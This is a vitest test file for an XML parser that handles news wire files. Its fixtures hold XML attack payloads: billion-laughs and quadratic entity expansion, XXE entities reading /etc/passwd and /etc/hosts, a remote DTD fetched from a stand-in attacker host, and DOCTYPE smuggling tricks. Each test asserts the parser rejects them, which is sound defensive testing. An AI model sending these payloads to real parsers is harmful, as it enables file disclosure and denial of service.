import { describe, expect, it } from 'vitest';
import { RejectionError } from '../../lambdas/story/index.ts';
import { readWire } from '../../lambdas/wire/index.ts';
import { attr, child, parseXml, rootName, textOf } from '../../lambdas/wire/xml.ts';

const encode = (text: string): Uint8Array => new TextEncoder().encode(text);

function codeOf(run: () => unknown): string {
  try {
    run();
    return 'accepted';
  } catch (error) {
    if (error instanceof RejectionError) return error.code;
    throw error;
  }
}

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<nitf><body><body.content><p>&lol9;</p></body.content></body></nitf>`;
const QUADRATIC = `<?xml version="1.0"?><!DOCTYPE newsItem [<!ENTITY a "${'x'.repeat(50_000)}">]><newsItem guid="g">${'&a;'.repeat(2000)}</newsItem>`;
const XXE_FILE = '<?xml version="1.0"?><!DOCTYPE nitf [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><nitf><body><body.content><p>&xxe;</p></body.content></body></nitf>';
const XXE_HTTP = '<?xml version="1.0"?><!DOCTYPE nitf [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]><nitf/>';
const EXTERNAL_ENTITY_NO_DOCTYPE = '<nitf><!ENTITY x SYSTEM "file:///etc/hosts"><body/></nitf>';

describe('Module: xml', () => {
  describe('Function: parseXml', () => {
    it('reads elements, attributes, text, CDATA, the predefined entities and character references', () => {
      // Act
      const root = parseXml('<?xml version="1.0"?><!-- c --><a xmlns:n="u" n:b=\'1 &amp; 2\'>x &lt; &#233;&#x201C;<n:c>in<![CDATA[<raw>]]></n:c> tail</a>');

      // Assess
      expect(root).toMatchObject({ name: 'a', local: 'a' });
      expect(attr(root, 'b')).toBe('1 & 2');
      expect(child(root, 'c')?.name).toBe('n:c');
      expect(textOf(root)).toBe('x < é“in<raw> tail');
    });

    it('skips a DOCTYPE that only names an external DTD, and never fetches it', () => {
      // Act
      const root = parseXml('<?xml version="1.0"?>\n<!DOCTYPE nitf SYSTEM "http://example.invalid/nitf.dtd">\n<nitf><head/></nitf>');

      // Assess
      expect(root.local).toBe('nitf');
    });

    it.each([
      ['billion laughs', BILLION_LAUGHS],
      ['quadratic blow-up', QUADRATIC],
      ['an external entity on a file', XXE_FILE],
      ['an external parameter entity over http', XXE_HTTP],
      ['an entity declaration outside a DOCTYPE', EXTERNAL_ENTITY_NO_DOCTYPE],
    ])('refuses %s as unsafe-xml before expanding anything', (_what, xml) => {
      // Act
      const code = codeOf(() => parseXml(xml));

      // Assess
      expect(code).toBe('unsafe-xml');
    });

    it.each([
      ['after a comment', '<?xml version="1.0"?><!-- <!DOCTYPE a> --><!DOCTYPE nitf [ %p; ]><nitf/>'],
      ['after a processing instruction', '<?xml version="1.0"?><?pi x?><!DOCTYPE nitf [ ]><nitf/>'],
      ['as a second DOCTYPE', '<!DOCTYPE nitf SYSTEM "nitf.dtd"><!DOCTYPE nitf [ ]><nitf/>'],
      ['behind a ">" in a quoted system id', '<!DOCTYPE nitf SYSTEM "a>b" [ ]><nitf/>'],
      ['after the root element', '<nitf/><!DOCTYPE x [ ]>'],
    ])('refuses a DOCTYPE with an internal subset %s as unsafe-xml', (_where, xml) => {
      // Assess
      expect(codeOf(() => parseXml(xml))).toBe('unsafe-xml');
      expect(codeOf(() => readWire(encode(xml)))).toBe('unsafe-xml');
    });

    it('refuses a second DOCTYPE even without an internal subset', () => {
      // Assess
      expect(codeOf(() => parseXml('<!DOCTYPE a SYSTEM "a.dtd"><!DOCTYPE a SYSTEM "b.dtd"><a/>'))).toBe('unsafe-xml');
    });

    it('decodes the HTML names that NITF\'s DTD declares (&eacute;, &uuml;, &nbsp;) from a fixed table', () => {
      // Act
      const root = parseXml('<!DOCTYPE nitf SYSTEM "nitf.dtd"><p>caf&eacute; M&uuml;ller&nbsp;&amp; co</p>');

      // Assess
      expect(root.children).toEqual(['café Müller\u00a0& co']);
    });

    it.each([
      ['billion laughs', BILLION_LAUGHS],
      ['an external entity on a file', XXE_FILE],
      ['an external parameter entity over http', XXE_HTTP],
    ])('rejects a wire file holding %s as unsafe-xml', (_what, xml) => {
      // Assess
      expect(codeOf(() => readWire(encode(xml)))).toBe('unsafe-xml');
    });

    it('refuses 100,000 nested elements as malformed, without overflowing the stack', () => {
      // Prepare
      const deep = `<nitf>${'<p>'.repeat(100_000)}${'</p>'.repeat(100_000)}</nitf>`;

      // Act
      const run = () => parseXml(deep);

      // Assess
      expect(run).toThrow(/nested more than 64 deep/);
      expect(codeOf(run)).toBe('malformed');
    });

    it.each([
      ['a mismatched closing tag', '<a>\n<b></a>', /line 2, .*closing tag that does not match the element open at that point/],
      ['a file cut short', '<a><b>text', /ends before <b> is closed: it is cut short/],
      ['an undeclared entity', '<a>&nosuchname;</a>', /neither one of XML's five nor an HTML name/],
      ['a bare ampersand', '<a>R&D</a>', /unescaped "&"/],
      ['two root elements', '<a/><b/>', /second root element/],
      ['an unquoted attribute', '<a b=1/>', /not quoted/],
      ['text before the root', 'hello <a/>', /text outside the root element/],
      ['a forbidden character reference', '<a>&#0;</a>', /a character XML does not allow/],
    ])('rejects %s as malformed with a message a person can act on', (_what, xml, message) => {
      // Act
      const run = () => parseXml(xml);

      // Assess
      expect(run).toThrow(RejectionError);
      expect(run).toThrow(message);
      expect(codeOf(run)).toBe('malformed');
    });
  });

  describe('Function: rootName', () => {
    it('finds the root past the declaration, comments and a DOCTYPE', () => {
      // Act & Assess
      expect(rootName('\ufeff<?xml version="1.0"?>\n<!-- x -->\n<!DOCTYPE nitf SYSTEM "n.dtd">\n<ns0:newsMessage xmlns:ns0="u">')).toBe('ns0:newsMessage');
      expect(rootName('plain text')).toBeUndefined();
    });
  });
});
